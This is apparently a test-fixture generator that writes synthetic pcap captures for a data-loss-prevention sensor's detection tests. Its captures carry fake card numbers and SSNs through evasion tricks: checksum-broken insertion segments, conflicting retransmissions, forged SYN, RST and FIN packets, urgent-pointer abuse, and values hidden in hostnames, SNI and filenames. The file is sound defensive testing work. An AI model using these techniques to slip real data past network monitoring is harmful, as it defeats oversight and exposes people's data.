#!/usr/bin/python3
"""gen_detect.py OUTDIR - captures for the detection tests (tests/integration/test_detection.py).

Each capture isolates one way a value can travel, or fail to travel, through the sensor:
split across out-of-order segments, hidden in a retransmission that disagrees with the
first copy, cut by a capture gap, carried in UDP datagrams, answered by an inside server,
kept inside the home network, over IPv6. Every value is synthetic (pcaps/README.md)."""
import gzip
import sys

from tcpgen import (Capture, Link, TcpSession, http_post, http_response, out_path, seeded_bytes,
                    udp_send)

IN1, IN2 = "10.0.0.31", "10.0.0.32"
OUT1, OUT2 = "198.51.100.40", "203.0.113.41"
CARD = b"4539148803436467"           # Luhn-valid synthetic Visa
CARD2 = b"5425233430109903"          # Luhn-valid synthetic Mastercard
SSN = b"536-22-8417"
AWS = b"AKIAIOSFODNN7EXAMPLE"        # AWS's documentation example key id
OK = http_response(b"ok\n", "text/plain")


def bad_checksum(s, flags, seq=None, payload=b"", urgptr=0):
    """A client packet the server drops: its TCP checksum broken (a plain 20-byte IPv4 header)."""
    bad = bytearray(s.build("c", flags, seq=seq, payload=payload, urgptr=urgptr))
    bad[36] ^= 0xFF
    s.emit_l3("c", bytes(bad))


def junk(s, seq, n):
    """Insertion: n bytes of `z` at seq the server drops (bad checksum), before the real ones."""
    bad_checksum(s, "PA", seq=seq, payload=b"z" * n)


def second_after_third(s, segs, njunk):
    """segs[0], junk copies of the njunk segments after it, the real third segment before
    the real second, the rest, then the close."""
    s.emit_seg("c", *segs[0])
    for seq, chunk in segs[1:1 + njunk]:
        junk(s, seq, len(chunk))
    s.emit_seg("c", *segs[2])
    s.emit_seg("c", *segs[1])
    for seg in segs[3:]:
        s.emit_seg("c", *seg)
    s.close()


def client_syn(s):
    """A one-sided capture's start: the client's SYN, the rest of the handshake unseen."""
    s.packet("c", "S")
    s.skip_handshake()


def client_only(s, data):
    """The client's segments of data, acknowledging the server's unseen SYN-ACK."""
    for seq, chunk in s.plan("c", data):
        s.emit_seg("c", seq, chunk, "PA", ack=s.nxt["s"])


def exchange(cap, cip, sip, cport, sport, request, response=OK, mss=1460, **isns):
    """A whole connection: handshake, the request, the response, the close (isns: cisn,
    sisn, for a tuple used again)."""
    s = TcpSession(cap, cip, sip, cport, sport, mss=mss, **isns)
    s.handshake()
    s.send("c", request)
    s.send("s", response)
    s.close()
    cap.clock.advance(0.1)
    return s


def card_out_of_order(outdir):
    """A card number cut into three 40-byte segments sent 3, 1, 2 (with a duplicate of 1)."""
    cap = Capture()
    body = b"note=" + b"a" * 30 + b" card " + CARD + b" thanks " + b"b" * 30
    req = http_post("pay.example.com", "/n", body, "text/plain")
    s = TcpSession(cap, IN1, OUT1, 46001, 80, mss=40)
    s.handshake()
    head, tail = req[:-len(body)], body
    s.send("c", head)
    segs = s.plan("c", tail, mss=40)
    for i in (2, 0, 0, 1):
        seq, chunk = segs[i]
        s.emit_seg("c", seq, chunk)
    s.ack("s")
    s.send("s", OK)
    s.close()
    cap.write_pcap(out_path(outdir, "detect-card-out-of-order.pcap"))


def conflicting_retransmission(outdir):
    """The first copy of a segment is harmless; a retransmission of the same bytes carries a
    card number instead. First copy wins for the stream, but the other version is scanned."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46002, 80)
    s.handshake()
    innocent = b"ref=" + b"0" * len(CARD) + b"&x=1\n"
    evil = b"ref=" + CARD + b"&x=1\n"
    segs = s.plan("c", innocent)
    seq, _ = segs[0]
    s.emit_seg("c", seq, innocent)
    s.emit_seg("c", seq, evil)
    s.ack("s")
    s.send("s", OK)
    s.close()
    cap.write_pcap(out_path(outdir, "detect-conflicting-retransmission.pcap"))


def gap_splits_value(outdir):
    """A card number whose middle segment never made it into the capture (the receiver ACKs
    past it): no alert may be raised from the two halves; a whole SSN after the gap is found."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46003, 80, mss=8)
    s.handshake()
    data = b"x " + CARD + b" y. ssn " + SSN + b" end\n"
    segs = s.plan("c", data, mss=8)
    for i, (seq, chunk) in enumerate(segs):
        if i == 1:            # bytes 8..16: the middle of the card number
            continue
        s.emit_seg("c", seq, chunk)
        s.ack("s", ack=seq + len(chunk))
    s.close()
    cap.write_pcap(out_path(outdir, "detect-gap-splits-value.pcap"))


def held_behind_hole(cport, close):
    """Raw TCP to port 3306 whose second segment never made it into the capture: the card
    after the hole waits in the reassembly. nDPI never names the stream (its bytes are text,
    not MySQL) and guesses MySQL by the port at the end."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, cport, 3306, mss=16)
    s.handshake()
    segs = s.plan("c", b"hello, records: x" * 2 + b" card " + CARD + b" end\n", mss=16)
    for i, (seq, chunk) in enumerate(segs):
        if i == 1:            # never captured
            continue
        s.emit_seg("c", seq, chunk)
    if close:
        s.close()
    return cap


def gap_held_to_close(outdir):
    """The receiver is never seen acknowledging past the hole: the card waits until the
    capture ends, and the flow's dlp event carries nDPI's last guess as its flow event does."""
    held_behind_hole(46004, False).write_pcap(out_path(outdir, "detect-gap-held-to-close.pcap"))


def gap_held_to_fin(outdir):
    """The same stream closed by FINs: the server's FIN, whose ACK takes the client's FIN and
    with it the hole, flushes the card while that packet is read, before the flow ends. Both
    sides have said they are done, so nDPI's guess (MySQL) labels it, as it does the flow
    event."""
    held_behind_hole(46005, True).write_pcap(out_path(outdir, "detect-gap-held-to-fin.pcap"))


def udp_datagrams(outdir):
    """Egress syslog-like UDP datagrams carrying an AWS key id and a card; the same card in
    an inbound datagram must not alert."""
    cap = Capture()
    udp_send(cap, IN1, OUT2, 51514, 514, b"<13>app: deploy key " + AWS + b" used\n", ipid=7)
    udp_send(cap, IN1, OUT2, 51514, 514, b"<13>app: charged card " + CARD + b" ok\n", ipid=8)
    udp_send(cap, OUT2, IN2, 40000, 5000, b"card " + CARD2 + b" inbound\n", ipid=9)
    cap.write_pcap(out_path(outdir, "detect-udp-datagrams.pcap"))


def inside_server_leaks(outdir):
    """An outside client downloads from an inside server: the response leaves the network."""
    cap = Capture()
    req = b"GET /export.csv HTTP/1.1\r\nHost: files.corp.example\r\n\r\n"
    resp = http_response(b"name,ssn\nJohn Smith," + SSN + b"\n", "text/csv")
    exchange(cap, OUT1, IN2, 52000, 80, req, resp)
    cap.write_pcap(out_path(outdir, "detect-inside-server-leaks.pcap"))


def internal_and_ipv6(outdir):
    """Inside-to-inside (not egress by default), then the same over IPv6 to the outside."""
    cap = Capture()
    body = b"ssn=" + SSN + b"&card=" + CARD2 + b"\n"
    exchange(cap, IN1, IN2, 46010, 8080, http_post("hr.corp.example", "/p", body, "text/plain"))
    exchange(cap, "fd00::31", "2001:db8::41", 46011, 443,
             http_post("api.example.net", "/p", body, "text/plain"))
    cap.write_pcap(out_path(outdir, "detect-internal-and-ipv6.pcap"))


def secrets_and_threshold(outdir):
    """One flow with an AWS key id and a private key header, one with three e-mail addresses
    and one with two (for threshold tests)."""
    cap = Capture()
    key = (b"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAsyntheticsyntheticsynthetic\n"
           b"-----END RSA PRIVATE KEY-----\n")
    exchange(cap, IN1, OUT1, 46020, 80,
             http_post("paste.example.com", "/p", b"aws_key=" + AWS + b"\n" + key, "text/plain"))
    three = b"to: a.one@example.com, b.two@example.org, c.three@example.net\n"
    two = b"to: d.four@example.com, e.five@example.org, d.four@example.com\n"
    exchange(cap, IN1, OUT1, 46021, 80, http_post("mail.example.com", "/s", three, "text/plain"))
    exchange(cap, IN1, OUT1, 46022, 80, http_post("mail.example.com", "/s", two, "text/plain"))
    cap.write_pcap(out_path(outdir, "detect-secrets-and-threshold.pcap"))


# Ten Luhn-valid card numbers of several brands, generated at random for these tests
# (not the published test numbers, which a later rule set may suppress).
TEN_CARDS = [b"4526018159083012", b"4661318609139090", b"5396030824628190",
             b"2231482199351815", b"379093786579753", b"6011432319487574",
             b"3541491186252764", b"36018955597976", b"6212114710497465072",
             b"4529170342366718"]


def one_byte_segments(outdir):
    """A card number and an SSN sent one byte per segment."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46030, 8000, mss=1)
    s.handshake()
    s.send("c", b"card=" + CARD + b";ssn=" + SSN + b";\n", ack_every=4, mss=1)
    s.close()
    cap.write_pcap(out_path(outdir, "detect-one-byte-segments.pcap"))


def vlan_tagged(outdir):
    """An 802.1Q-tagged egress flow carrying an IBAN and a card."""
    cap = Capture(link=Link("ether", vlans=[42]))
    body = b"iban=GB82 WEST 1234 5698 7654 32\ncard=" + CARD + b"\n"
    exchange(cap, IN1, OUT1, 46031, 80, http_post("bank.example.com", "/t", body, "text/plain"))
    cap.write_pcap(out_path(outdir, "detect-vlan.pcap"))


def invalid_values(outdir):
    """Look-alikes that must not alert: Luhn-invalid and unassigned card numbers, SSNs the
    SSA never issues or that are published fakes, an IBAN with a wrong check digit, a
    broken e-mail address."""
    body = (b"order 4539148803436468 (Luhn fails), ref 1234567812345678, part 9999-8888-7777-6666\n"
            b"ssn 078-05-1120; 987-65-4321; 000-12-3456; 666-12-3456; 912-34-5678; 123-45-6789; "
            b"536-00-8417; 536-22-0000\n"
            b"iban GB82 WEST 1234 5698 7654 33\n"
            b"mail jane.doe@localhost, x@1.2.3.4\n")
    cap = Capture()
    exchange(cap, IN1, OUT1, 46032, 80, http_post("forms.example.com", "/f", body, "text/plain"))
    cap.write_pcap(out_path(outdir, "detect-invalid-values.pcap"))


def ten_cards(outdir):
    """Ten different card numbers in one segment of one flow, then two of them again."""
    cap = Capture()
    body = b"\n".join(b"card %d: %s" % (i, c) for i, c in enumerate(TEN_CARDS)) + b"\n"
    s = TcpSession(cap, IN1, OUT1, 46033, 80)
    s.handshake()
    s.send("c", http_post("shop.example.com", "/bulk", body, "text/plain"))
    s.send("c", b"repeat " + TEN_CARDS[0] + b" " + TEN_CARDS[3] + b"\n")
    s.send("s", OK)
    s.close()
    cap.write_pcap(out_path(outdir, "detect-ten-cards.pcap"))


def forged_syn(outdir):
    """SYNs forged into uploads still going on (another ISN, no ACK) must not end the flow:
    :46020 in the middle of an established upload, :46021 after the server's FIN (half
    close); in both the card comes after the SYN. :46022 is a real reuse of the tuple: a
    first connection closes, a second one opens with a new ISN and carries the SSN."""
    cap = Capture()
    body = b"note=" + b"x" * 200 + b" card " + CARD + b" end\n"
    req = http_post("up.example.com", "/u", body, "text/plain")
    for cport, half_close in ((46020, False), (46021, True)):
        s = TcpSession(cap, IN1, OUT1, cport, 80)
        s.handshake()
        s.send("c", req[:120])
        if half_close:
            s.fin("s")
        s.packet("c", "S", seq=s.nxt["c"] + 900000)
        s.send("c", req[120:])
        s.send("s", OK) if not half_close else s.ack("s")
        s.close() if not half_close else (s.fin("c"), s.ack("s"))
        cap.clock.advance(0.1)
    first = TcpSession(cap, IN1, OUT1, 46022, 80, cisn=7000)
    first.handshake()
    first.send("c", http_post("up.example.com", "/a", b"nothing here\n", "text/plain"))
    first.send("s", OK)
    first.close()
    cap.clock.advance(0.5)
    exchange(cap, IN1, OUT1, 46022, 80,
             http_post("up.example.com", "/b", b"ssn " + SSN + b"\n", "text/plain"),
             cisn=3000000, sisn=90000)
    cap.write_pcap(out_path(outdir, "detect-forged-syn.pcap"))


def forged_rst(outdir):
    """RSTs that must not end an upload, and one that ends a connection for real.
    :46030 the client sends an RST inside the window but not at its next sequence number (a
    receiver since RFC 5961 ignores it), then the rest of the upload with the card; :46031 an
    RST at the exact sequence number but with a bad TCP checksum (the server drops it), then
    the rest; :46032 the server resets the connection while the client's last segment, with
    the card, is on its way; :46033 a raw stream whose last bytes are the second card, ended
    by the client's RST (an abort)."""
    cap = Capture()
    body = b"note=" + b"x" * 200 + b" card " + CARD + b" end\n"
    req = http_post("up.example.com", "/u", body, "text/plain")
    for cport in (46030, 46031, 46032):
        s = TcpSession(cap, IN1, OUT1, cport, 80)
        s.handshake()
        s.send("c", req[:120])
        if cport == 46030:
            s.packet("c", "R", seq=s.nxt["c"] + 1000)
        elif cport == 46031:
            bad_checksum(s, "R")
        else:
            s.ack("s")
            s.rst("s")
        s.send("c", req[120:])
        if cport == 46032:
            continue
        s.send("s", OK)
        s.close()
        cap.clock.advance(0.1)
    raw = TcpSession(cap, IN1, OUT1, 46033, 9000)
    raw.handshake()
    raw.send("c", b"export batch 7, last card " + CARD2)
    raw.ack("s")
    raw.rst("c")
    cap.write_pcap(out_path(outdir, "detect-forged-rst.pcap"))


def insertion(outdir):
    """Insertion: a segment with a bad TCP checksum (dropped by the server) sent before the
    real one at the same sequence numbers; the sensor keeps the first copy, so the value is
    only in the other version. Raw TCP to port 9000. :46040 one junk segment, the card
    spanning the segment before it and the real one; :46041 every segment sent as junk
    first, then the real ones in 8-byte segments (the second card); :46042 the junk copy of
    the second segment, then the third (new bytes), then the real second one: the card spans
    the second and third."""
    cap = Capture()

    one = TcpSession(cap, IN1, OUT1, 46040, 9000)
    one.handshake()
    segs = one.plan("c", b"batch 12 card " + CARD + b" end\n", mss=23)
    one.emit_seg("c", *segs[0])
    junk(one, segs[1][0], len(segs[1][1]))
    for seg in segs[1:]:
        one.emit_seg("c", *seg)
    one.close()
    cap.clock.advance(0.1)
    every = TcpSession(cap, IN1, OUT1, 46041, 9000)
    every.handshake()
    segs = every.plan("c", b"batch 13 card " + CARD2 + b" end\n", mss=8)
    for seq, chunk in segs:
        junk(every, seq, len(chunk))
    for seg in segs:
        every.emit_seg("c", *seg)
    every.close()
    cap.clock.advance(0.1)
    late = TcpSession(cap, IN1, OUT1, 46042, 9000)
    late.handshake()
    segs = late.plan("c", b"batch 14 card " + CARD2 + b" end\n", mss=12)
    second_after_third(late, segs, 1)
    cap.write_pcap(out_path(outdir, "detect-insertion.pcap"))


def idle_answer(outdir):
    """Request-response over raw TCP (port 7000), the client then idle: :46050 sends a record
    whose last bytes are the card, the server answers, and nothing more comes for 300 s;
    meanwhile :46051 sends the SSN and closes. :46052 sends half of the second card, the
    server answers, then the client sends the other half."""
    cap = Capture()
    idle = TcpSession(cap, IN1, OUT1, 46050, 7000)
    idle.handshake()
    idle.send("c", b"STORE record 17 card " + CARD + b"\n")
    idle.send("s", b"OK stored\n")
    cap.clock.advance(100)
    other = TcpSession(cap, IN2, OUT2, 46051, 7000)
    other.handshake()
    other.send("c", b"STORE record 18 ssn " + SSN + b"\n" + b"x" * 200 + b"\n")
    other.send("s", b"OK\n")
    other.close()
    half = TcpSession(cap, IN2, OUT2, 46052, 7000)
    half.handshake()
    half.send("c", b"STORE card " + CARD2[:8])
    half.send("s", b"MORE\n")
    half.send("c", CARD2[8:] + b"\n")
    half.send("s", b"OK\n")
    half.close()
    cap.clock.advance(200)
    idle.send("c", b"PING\n")
    idle.send("s", b"PONG\n")
    cap.clock.advance(300)
    idle.close()
    cap.write_pcap(out_path(outdir, "detect-idle-answer.pcap"))


def insertion_interleaved(outdir):
    """Insertion, segment by segment: each 8-byte segment of a raw TCP upload (port 9000) is
    sent first as junk (`z`, bad TCP checksum, dropped by the server), then at once as the
    real bytes, the next segment only after that. :46060 the card in one write; :46061 the
    same with the server's ACK after each real segment. The sensor's stream (first copy
    wins) holds only junk; the card is only in the other versions."""
    cap = Capture()

    for cport, acks in ((46060, False), (46061, True)):
        s = TcpSession(cap, IN1, OUT1, cport, 9000)
        s.handshake()
        for seq, chunk in s.plan("c", b"batch 15 card " + CARD + b" end\n", mss=8):
            junk(s, seq, len(chunk))
            s.emit_seg("c", seq, chunk)
            if acks:
                s.ack("s", ack=seq + len(chunk))
        s.close()
        cap.clock.advance(0.1)
    cap.write_pcap(out_path(outdir, "detect-insertion-interleaved.pcap"))


def rst_then_syn(outdir):
    """A reset only one side took, then a SYN: :46070 the server sends an RST at its exact
    sequence number (the client's stack drops it: a bad checksum, or forged by the server's
    own accomplice), the client goes on uploading (HTTP POST to port 80), then sends a SYN
    with a new ISN on the same tuple (dropped as well), then the rest of the upload with the
    card, then its FIN. The client's bytes after the RST show it never took it, so the SYN
    opens no new connection."""
    cap = Capture()
    body = b"note=" + b"x" * 300 + b" card " + CARD + b" end\n"
    req = http_post("up.example.com", "/u", body, "text/plain")
    s = TcpSession(cap, IN1, OUT1, 46070, 80)
    s.handshake()
    s.send("c", req[:100])
    s.rst("s")
    s.send("c", req[100:200], ack_every=0)
    s.packet("c", "S", seq=s.nxt["c"] + 0x40000000, options=[("MSS", 1460)])
    s.send("c", req[200:], ack_every=0)
    s.fin("c")
    cap.write_pcap(out_path(outdir, "detect-rst-then-syn.pcap"))


def rst_syn_one_side(outdir):
    """An RST and a SYN from the same side: :46110 the client sends an RST at its exact
    sequence number and then a SYN with a new ISN, both with bad TCP checksums (the server
    drops them), then the rest of its upload (HTTP POST to port 80) with the card: the SYN
    is never answered, so the flow goes on. :46111 a real port reuse: the client resets,
    then opens a new connection on the same tuple (SYN, SYN-ACK, ACK) and uploads the
    second card on it."""
    cap = Capture()
    body = b"note=" + b"x" * 300 + b" card " + CARD + b" end\n"
    req = http_post("up.example.com", "/u", body, "text/plain")
    s = TcpSession(cap, IN1, OUT1, 46110, 80)
    s.handshake()
    s.send("c", req[:150])
    bad_checksum(s, "R")
    bad_checksum(s, "S", seq=s.nxt["c"] + 0x30000000)
    s.send("c", req[150:])
    s.send("s", OK)
    s.close()
    cap.clock.advance(0.1)
    old = TcpSession(cap, IN1, OUT1, 46111, 80)
    old.handshake()
    old.send("c", http_post("up.example.com", "/u", b"note=first try", "text/plain"))
    old.rst("c")
    cap.clock.advance(0.05)
    exchange(cap, IN1, OUT1, 46111, 80,
             http_post("up.example.com", "/u", b"card " + CARD2 + b" end\n", "text/plain"),
             cisn=old.nxt["c"] + 0x30000000, sisn=90000)
    cap.write_pcap(out_path(outdir, "detect-rst-syn-one-side.pcap"))


def insertion_reordered(outdir):
    """Insertion with the real copies out of order: raw TCP (port 9000), 150-byte segments;
    :46062 the first segment ends with the start of the card, the second and third are sent
    as junk (bad TCP checksum), then the real third, then the real second. The card spans
    the first (the stream's own bytes) and the second (another version), and the first
    other version to come is the third."""
    cap = Capture()

    s = TcpSession(cap, IN1, OUT1, 46062, 9000)
    s.handshake()
    data = b"batch 16 " + b"." * 125 + b" card " + CARD + b" end " + b"-" * 300
    segs = s.plan("c", data, mss=150)
    second_after_third(s, segs, 2)
    cap.write_pcap(out_path(outdir, "detect-insertion-reordered.pcap"))


def insertion_large(outdir):
    """Insertion of one large segment: raw TCP (port 9000), :46063 48 bytes, then a
    3,000-byte segment sent first as junk (bad TCP checksum), then as the real bytes, the
    card about 1,000 bytes in: the other version is longer than the sensor holds aside
    (1 KiB) and goes through in pieces (the test sets reassembly.retain_bytes to 8k, so the
    stream's bytes before it are all retained)."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46063, 9000, mss=3000)
    s.handshake()
    s.send("c", b"batch 17 " + b"." * 39)
    data = b"." * 976 + b" card " + CARD + b" end " + b"-" * 1997
    (seq, chunk), = s.plan("c", data, mss=3000)
    junk(s, seq, len(chunk))
    s.emit_seg("c", seq, chunk)
    s.send("s", b"OK\n")
    s.close()
    cap.write_pcap(out_path(outdir, "detect-insertion-large.pcap"))

def forged_fin(outdir):
    """A FIN the server drops must not end an upload: :46070 the client sends a FIN at its
    exact sequence number but with a bad TCP checksum after the first 120 bytes, then the
    rest of the upload with the card, which the server acknowledges; :46071 the same, then a
    forged SYN (another ISN) before the rest. :46072 a raw stream (port 9000) whose last
    bytes are the second card, then the client's FIN, with nothing from the server after the
    handshake (a one-sided capture: no ACK of the FIN is ever seen). :46073 the server's FIN
    first (half close, acknowledged), then the client's bad-checksum FIN and a forged SYN:
    both FINs seen, one of them unacknowledged, is no close."""
    cap = Capture()
    body = b"note=" + b"x" * 200 + b" card " + CARD + b" end\n"
    req = http_post("up.example.com", "/u", body, "text/plain")
    for cport in (46070, 46071):
        s = TcpSession(cap, IN1, OUT1, cport, 80)
        s.handshake()
        s.send("c", req[:120])
        bad_checksum(s, "FA")
        if cport == 46071:
            s.packet("c", "S", seq=s.nxt["c"] + 700000)
        s.send("c", req[120:])
        s.send("s", OK)
        s.close()
        cap.clock.advance(0.1)
    one = TcpSession(cap, IN1, OUT1, 46072, 9000)
    one.handshake()
    one.send("c", b"export batch 9, last card " + CARD2, ack_every=0)
    one.fin("c")
    cap.clock.advance(0.1)
    half = TcpSession(cap, IN1, OUT1, 46073, 80)
    half.handshake()
    half.send("c", req[:120])
    half.fin("s")
    half.ack("c")
    bad_checksum(half, "FA")
    half.packet("c", "S", seq=half.nxt["c"] + 700000)
    half.send("c", req[120:])
    half.fin("c")
    half.ack("s")
    cap.write_pcap(out_path(outdir, "detect-forged-fin.pcap"))


def idle_one_sided(outdir):
    """A one-sided capture (only the client's packets, as a tap copying one direction):
    :46080 sends a record whose last bytes are the card to port 7000, then nothing for
    600 s; 5 s after it :46081 sends the SSN and closes. :46082 sends half of the second
    card, pauses 3 s, then the other half."""
    cap = Capture()

    idle = TcpSession(cap, IN1, OUT1, 46080, 7000)
    client_syn(idle)
    client_only(idle, b"STORE record 17 card " + CARD + b"\n")
    half = TcpSession(cap, IN2, OUT2, 46082, 7000)
    client_syn(half)
    client_only(half, b"STORE card " + CARD2[:8])
    cap.clock.advance(3)
    client_only(half, CARD2[8:] + b"\n")
    cap.clock.advance(2)
    other = TcpSession(cap, IN2, OUT2, 46081, 7000)
    client_syn(other)
    client_only(other, b"STORE record 18 ssn " + SSN + b"\n" + b"x" * 200 + b"\n")
    other.packet("c", "FA")
    cap.clock.advance(600)
    idle.packet("c", "FA")
    cap.write_pcap(out_path(outdir, "detect-idle-one-sided.pcap"))


def send_oob(s, before, oob, after):
    """The client writes `before`, then send(MSG_OOB) of the one byte `oob` (it travels as the
    last byte of its own segment, the urgent pointer just past it, as Linux sends it), then
    `after`; a server without SO_OOBINLINE reads before + after."""
    s.send("c", before)
    seq = s.plan("c", oob)[0][0]
    s.packet("c", "PAU", seq=seq, payload=oob, urgptr=1)
    s.ack("s")
    s.send("c", after)


def urgent(outdir):
    """Urgent (out-of-band) bytes, which a server without SO_OOBINLINE never reads in the
    stream: :46090 raw TCP, the junk urgent byte `X` inside the card; :46091 raw TCP, the
    urgent byte is a digit of the second card (a receiver that keeps it inline reads the
    card; one that does not, 15 digits); :46092 an HTTP POST whose request line is cut by
    the urgent byte `Z` ("POST /u HT", "Z", "TP/1.1 ...", still in the first bytes the
    sensor reads to choose a decoder) and whose gzip body holds the second card;
    :46093 a form body with the SSN cut by the urgent byte `Q`."""
    cap = Capture()
    raw = TcpSession(cap, IN1, OUT1, 46090, 9000)
    raw.handshake()
    send_oob(raw, b"batch 20 card " + CARD[:8], b"X", CARD[8:] + b" end\n")
    raw.close()
    cap.clock.advance(0.1)
    inline = TcpSession(cap, IN1, OUT1, 46091, 9000)
    inline.handshake()
    send_oob(inline, b"batch 21 card " + CARD2[:7], CARD2[7:8], CARD2[8:] + b" end\n")
    inline.close()
    cap.clock.advance(0.1)
    body = gzip.compress(b"records: " + CARD2 + b" end\n" + b"pad " * 40, mtime=0)
    req = http_post("up.example.com", "/u", body, "application/octet-stream",
                    extra=("Content-Encoding: gzip",))
    web = TcpSession(cap, IN1, OUT1, 46092, 80)
    web.handshake()
    cut = req.index(b"HTTP/1.1") + 2
    send_oob(web, req[:cut], b"Z", req[cut:])
    web.send("s", OK)
    web.close()
    cap.clock.advance(0.1)
    form = b"name=ana&ssn=" + SSN + b"&x=1"
    req = http_post("forms.example.com", "/f", form)
    cut = req.index(SSN) + 5
    web = TcpSession(cap, IN1, OUT1, 46093, 80)
    web.handshake()
    send_oob(web, req[:cut], b"Q", req[cut:])
    web.send("s", OK)
    web.close()
    cap.write_pcap(out_path(outdir, "detect-urgent.pcap"))


def urgent_far(outdir):
    """:46094 an HTTP POST of a gzip body of over 64 KiB (a text line, 70000 seeded bytes, then
    3000 short text lines with the Mastercard among them), then send(MSG_OOB) of one byte `!` after it, all written before the
    server's window let the client send much: a Linux sender (tcp_transmit_skb) marks every
    segment before the urgent byte, with the pointer 0xFFFF while that byte is over 64 KiB on
    (each such pointer points at a byte of the body), then the pointer to it. The receiver
    keeps one urgent mark, each pointer replacing the last before its byte came: only `!`
    leaves the stream, the body inflates whole."""
    cap = Capture()
    lines = b"".join(b"record %04d ok\n" % i for i in range(3000))
    text = lines[:len(lines) // 2] + b"card " + CARD2 + b" end\n" + lines[len(lines) // 2:]
    body = gzip.compress(b"backup part 1\n" + seeded_bytes(46094, 70000) + text, mtime=0)
    assert CARD2 not in body  # compressed: only an inflating reader finds it
    req = http_post("backup.example.net", "/b", body, "application/octet-stream",
                    extra=("Content-Encoding: gzip",))
    web = TcpSession(cap, IN1, OUT1, 46094, 80)
    web.handshake()
    segs = web.plan("c", req + b"!")
    up = web.nxt["c"]  # snd_up: just past the urgent byte
    for i, (seq, chunk) in enumerate(segs):
        ptr = up - seq if up - seq < 0x10000 else 0xFFFF
        web.packet("c", "PAU" if i == len(segs) - 1 else "AU", seq=seq, payload=chunk,
                   urgptr=ptr)
        if i % 2 == 1 or i == len(segs) - 1:
            web.ack("s", ack=seq + len(chunk))
    web.send("s", OK)
    web.close()
    cap.write_pcap(out_path(outdir, "detect-urgent-far.pcap"))


def urgent_insertion(outdir):
    """Insertion with an urgent byte: :46095 raw TCP to port 9000, the card across three
    segments; the junk copy of the second (`z`s, a bad checksum: the server drops it, its
    URG with it) marks its last byte urgent, then the real second segment (no URG). The
    server reads the card whole; the sensor's stream is the junk copy without its urgent
    byte, and the real copy is the other version of those bytes."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46095, 9000)
    s.handshake()
    segs = s.plan("c", b"batch 31 card " + CARD + b" end\n", mss=12)
    s.emit_seg("c", *segs[0])
    seq, chunk = segs[1]
    bad_checksum(s, "PAU", seq=seq, payload=b"z" * len(chunk), urgptr=len(chunk))
    for seg in segs[1:]:
        s.emit_seg("c", *seg)
    s.close()
    cap.write_pcap(out_path(outdir, "detect-urgent-insertion.pcap"))


def urgent_zero(outdir):
    """URG with the urgent pointer 0 (no sender's stack makes one; a raw socket does): Linux
    (tcp_check_urg takes 1 off only a pointer that is not 0) reads the segment's first byte
    out of band, BSD ignores the flag. :46096 raw TCP to port 9000, the first half of the
    card, then a segment whose first byte is the junk `X`, URG, pointer 0, then the rest of
    the card: a Linux server reads the card whole."""
    cap = Capture()
    s = TcpSession(cap, IN1, OUT1, 46096, 9000)
    s.handshake()
    s.send("c", b"batch 32 card " + CARD[:8])
    seq, chunk = s.plan("c", b"X" + CARD[8:] + b" end\n")[0]
    s.packet("c", "PAU", seq=seq, payload=chunk, urgptr=0)
    s.ack("s")
    s.close()
    cap.write_pcap(out_path(outdir, "detect-urgent-zero.pcap"))


def client_hello(sni):
    """A TLS 1.3 ClientHello record naming `sni` (server_name and supported_versions only)."""
    ext = (b"\x00\x00" + (len(sni) + 5).to_bytes(2, "big") + (len(sni) + 3).to_bytes(2, "big") +
           b"\x00" + len(sni).to_bytes(2, "big") + sni + b"\x00\x2b\x00\x03\x02\x03\x04")
    hello = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" +
             len(ext).to_bytes(2, "big") + ext)
    hs = b"\x01" + len(hello).to_bytes(3, "big") + hello
    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs


def names_carry_values(outdir):
    """Values in the names an event shows beside them: the sender chose them, so they are
    data too. :46097 a multipart upload whose file is named after an address and an SSN
    (the file holds a card); :46098 a POST whose Host names a card and an SSN (the body holds
    an address); :46099 a TLS ClientHello whose SNI names a card (a flow event with
    --log-flows); :46100 a file named by 50 `x`s and a card, which an event cuts to 63
    characters, inside the card (the file holds another card); :46101 an SNI of the card and
    49 `a`s, of which nDPI keeps the last 79 characters: the cut falls inside the card."""
    cap = Capture()
    b_ = b"----dlpnames"

    def upload(name, card=CARD):
        return (b"--" + b_ + b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" +
                name + b"\"\r\nContent-Type: text/csv\r\n\r\nid,card\r\n1," + card +
                b"\r\n\r\n--" + b_ + b"--\r\n")
    mp = "multipart/form-data; boundary=" + b_.decode()
    exchange(cap, IN1, OUT1, 46097, 80,
             http_post("files.example.com", "/up",
                       upload(b"jane.doe@example.com " + SSN + b".csv"), mp))
    exchange(cap, IN1, OUT1, 46098, 80,
             http_post("4539-1488-0343-6467." + SSN.decode() + ".evil.example", "/p",
                       b"contact=jane.doe%40example.com\n"))
    s = TcpSession(cap, IN1, OUT2, 46099, 443)
    s.handshake()
    s.send("c", client_hello(CARD + b".jane-doe.example"))
    s.send("s", b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00")
    s.close()
    exchange(cap, IN1, OUT1, 46100, 80,
             http_post("files.example.com", "/up", upload(b"x" * 50 + b" " + CARD + b".csv", CARD2), mp))
    s = TcpSession(cap, IN1, OUT2, 46101, 443)
    s.handshake()
    s.send("c", client_hello(CARD + b"." + b"a" * 49 + b".jane-doe.example"))
    s.send("s", b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00")
    s.close()
    cap.write_pcap(out_path(outdir, "detect-names.pcap"))


def main():
    outdir = sys.argv[1]
    for gen in (card_out_of_order, conflicting_retransmission, gap_splits_value, udp_datagrams,
                inside_server_leaks, internal_and_ipv6, secrets_and_threshold, one_byte_segments,
                vlan_tagged, invalid_values, ten_cards, forged_syn, forged_rst, insertion,
                idle_answer, insertion_interleaved, rst_then_syn, insertion_reordered,
                insertion_large, forged_fin, idle_one_sided, urgent, rst_syn_one_side, urgent_far,
                urgent_insertion, urgent_zero, gap_held_to_close, gap_held_to_fin,
                names_carry_values):
        gen(outdir)


if __name__ == "__main__":
    main()
